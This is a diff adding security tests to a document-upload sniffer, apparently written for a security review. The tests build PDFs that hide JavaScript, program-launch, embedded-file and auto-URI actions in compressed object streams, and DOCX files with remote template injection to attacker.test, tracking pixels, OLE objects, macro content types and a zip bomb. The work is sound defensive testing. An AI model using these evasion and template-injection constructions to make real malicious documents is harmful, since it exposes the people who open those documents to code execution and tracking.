@@ -239,3 +239,213 @@ def test_active_content_is_found_across_chunk_boundaries(monkeypatch, chunk):
     assert sniffing._pdf_active_raw(io.BytesIO(pdf_with_javascript())) == "JavaScript"
     assert sniffing._pdf_active_raw(io.BytesIO(escaped)) == "JavaScript"
     assert sniffing._pdf_active_raw(io.BytesIO(pdf_bytes())) is None
+
+
+# --- Smuggling past the sniffer (security review, issue 12) ---------------------------
+
+
+def pdf_with_object_stream(catalog: bytes, *extra: bytes) -> bytes:
+    """A PDF 1.5 whose catalog (object 1), pages (2) and `extra` objects (3...) are kept in
+    one compressed object stream, where the raw scan cannot read them."""
+    import struct
+    import zlib
+
+    objects = [catalog, b"<< /Type /Pages /Kids [] /Count 0 >>", *extra]
+    header, body = b"", b""
+    for number, obj in enumerate(objects, start=1):
+        header += b"%d %d " % (number, len(body))
+        body += obj + b"\n"
+    packed = zlib.compress(header + body)
+    stream_number, xref_number = len(objects) + 1, len(objects) + 2
+    out = b"%PDF-1.5\n"
+    stream_offset = len(out)
+    out += (
+        b"%d 0 obj\n<< /Type /ObjStm /N %d /First %d /Filter /FlateDecode /Length %d >>\n"
+        b"stream\n"
+        % (stream_number, len(objects), len(header), len(packed))
+        + packed
+        + b"\nendstream\nendobj\n"
+    )
+    xref_offset = len(out)
+    rows = [b"\x00" + struct.pack(">IH", 0, 65535)]
+    rows += [b"\x02" + struct.pack(">IH", stream_number, index) for index in range(len(objects))]
+    rows += [b"\x01" + struct.pack(">IH", offset, 0) for offset in (stream_offset, xref_offset)]
+    xref = zlib.compress(b"".join(rows))
+    out += (
+        b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Root 1 0 R /Filter /FlateDecode "
+        b"/Length %d >>\nstream\n"
+        % (xref_number, xref_number + 1, len(xref))
+        + xref
+        + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % xref_offset
+    )
+    return out
+
+
+CATALOG = b"<< /Type /Catalog /Pages 2 0 R "
+
+
+@pytest.mark.parametrize(
+    ("catalog", "reason"),
+    [
+        (CATALOG + b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>", "JavaScript"),
+        (CATALOG + b"/OpenAction [ << /S /Launch /F (cmd.exe) >> ] >>", "launches a program"),
+        (
+            CATALOG + b"/Names << /EmbeddedFiles << /Names [(a.exe) 3 0 R] >> >> >>",
+            "files attached",
+        ),
+        (CATALOG + b"/AcroForm << /XFA [(x) 3 0 R] >> >>", "XFA"),
+        (CATALOG + b"/OpenAction << /S /SubmitForm /F (https://x.test/) >> >>", "sends form"),
+        (CATALOG + b"/OpenAction << /S /GoToR /F (other.pdf) /D [0 /Fit] >> >>", "another file"),
+    ],
+)
+def test_active_content_written_inside_a_compressed_object_stream_is_refused(catalog, reason):
+    data = pdf_with_object_stream(catalog, b"<< /Type /Filespec >>")
+    assert b"/JavaScript" not in data and b"/Launch" not in data  # hidden from the raw scan
+    with pytest.raises(Refused, match=reason):
+        sniffed(data)
+
+
+@pytest.mark.parametrize(
+    "catalog",
+    [
+        CATALOG + b"/OpenAction << /S /URI /URI (https://tracker.test/opened) >> >>",
+        CATALOG + b"/OpenAction << /S /GoTo /D [0 /Fit] /Next [3 0 R] >> >>",
+        CATALOG + b"/AA << /WC 3 0 R >> >>",
+    ],
+)
+def test_a_pdf_that_calls_a_web_address_by_itself_when_opened_is_refused(catalog):
+    data = pdf_with_object_stream(catalog, b"<< /S /URI /URI (https://tracker.test/x) >>")
+    with pytest.raises(Refused, match="opens a web address by itself"):
+        sniffed(data)
+
+
+def test_a_pdf_with_a_link_the_reader_clicks_and_an_opening_page_is_accepted():
+    page = (
+        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Annots [<< /Type /Annot "
+        b"/Subtype /Link /Rect [0 0 50 50] /A << /S /URI /URI (https://example.org/) >> >>] >>"
+    )
+    data = pdf_with_object_stream(CATALOG + b"/OpenAction [3 0 R /Fit] >>", page)
+    assert sniffed(data) == PDF
+
+
+def docx_changed(*, add: dict[str, bytes] = (), replace: dict[str, bytes] = ()) -> bytes:
+    """The plain test .docx with parts added, or replaced by the given bytes."""
+    import zipfile
+
+    add, replace = dict(add), dict(replace)
+    source = zipfile.ZipFile(io.BytesIO(docx_bytes()))
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
+        for entry in source.infolist():
+            target.writestr(entry.filename, replace.get(entry.filename, source.read(entry)))
+        for name, data in add.items():
+            target.writestr(name, data)
+    return out.getvalue()
+
+
+def relationships(*rows: str) -> bytes:
+    ns = "http://schemas.openxmlformats.org/package/2006/relationships"
+    return (
+        f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{ns}">'
+        + "".join(rows)
+        + "</Relationships>"
+    ).encode()
+
+
+OFFICE_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+
+
+@pytest.mark.parametrize(
+    ("part", "rows", "reason"),
+    [
+        (
+            "word/_rels/settings.xml.rels",
+            [
+                f'<Relationship Id="r1" Type="{OFFICE_REL}/attachedTemplate" '
+                'Target="https://attacker.test/t.dotm" TargetMode="External"/>'
+            ],
+            "loads a template",
+        ),
+        (
+            "word/_rels/header9.xml.rels",
+            [
+                f'<Relationship Id="r1" Type="{OFFICE_REL}/image" '
+                'Target="https://tracker.test/pixel.png" TargetMode="External"/>'
+            ],
+            r"fetches a part from elsewhere when opened \(image\)",
+        ),
+        (
+            "word/_rels/footer9.xml.rels",
+            [
+                f'<Relationship Id="r1" Type="{OFFICE_REL}/oleObject" '
+                'Target="../customXml/item9.bin"/>'
+            ],
+            "embedded objects",
+        ),
+        (
+            "word/_rels/footer8.xml.rels",
+            [f'<Relationship Id="r1" Type="{OFFICE_REL}/aFChunk" Target="chunk.rtf"/>'],
+            "imports another file",
+        ),
+    ],
+)
+def test_a_docx_that_word_would_make_fetch_or_run_something_is_refused(part, rows, reason):
+    with pytest.raises(Refused, match=reason):
+        sniffed(docx_changed(add={part: relationships(*rows)}))
+
+
+def test_a_docx_with_an_outside_hyperlink_is_accepted():
+    link = (
+        f'<Relationship Id="r1" Type="{OFFICE_REL}/hyperlink" '
+        'Target="https://example.org/" TargetMode="External"/>'
+    )
+    assert sniffed(docx_changed(add={"word/_rels/footer9.xml.rels": relationships(link)})) == DOCX
+
+
+def test_a_macro_enabled_docx_is_refused_whatever_the_case_of_its_content_type():
+    import zipfile
+
+    types = zipfile.ZipFile(io.BytesIO(docx_bytes())).read("[Content_Types].xml")
+    renamed = types.replace(
+        b"wordprocessingml.document.main+xml", b"ms-word.document.MACROENABLED.main+xml"
+    )
+    assert renamed != types
+    with pytest.raises(Refused, match="macros"):
+        sniffed(docx_changed(replace={"[Content_Types].xml": renamed}))
+
+
+def test_a_docx_whose_xml_would_inflate_past_the_limit_is_refused_unread(monkeypatch):
+    import zipfile
+
+    bomb = docx_changed(add={"word/footer9.xml": b" " * (65 * 2**20)})
+    assert len(bomb) < 2**20  # a small upload
+    read = []
+    monkeypatch.setattr(zipfile.ZipFile, "read", lambda self, name: read.append(name))
+    with pytest.raises(Refused, match=r"word/footer9\.xml unpacks to more than 64 MiB"):
+        sniffed(bomb)
+    assert read == []
+
+
+@pytest.mark.parametrize(
+    ("target", "accepted"),
+    [
+        ("file:///C:/Users/jdoe/AppData/Roaming/Microsoft/Templates/Statement.dotx", True),
+        ("file:///C:\\Templates\\Statement.dotx", True),
+        ("file://fileserver/templates/Statement.dotm", False),
+        ("\\\\203.0.113.9\\share\\Statement.dotm", False),
+        ("https://attacker.test/Statement.dotm", False),
+    ],
+)
+def test_a_docx_made_from_a_template_on_the_local_disk_is_accepted_and_one_elsewhere_refused(
+    target, accepted
+):
+    row = (
+        f'<Relationship Id="r1" Type="{OFFICE_REL}/attachedTemplate" Target="{target}" '
+        'TargetMode="External"/>'
+    )
+    data = docx_changed(add={"word/_rels/settings.xml.rels": relationships(row)})
+    if accepted:
+        assert sniffed(data) == DOCX
+    else:
+        with pytest.raises(Refused, match="loads a template"):
+            sniffed(data)
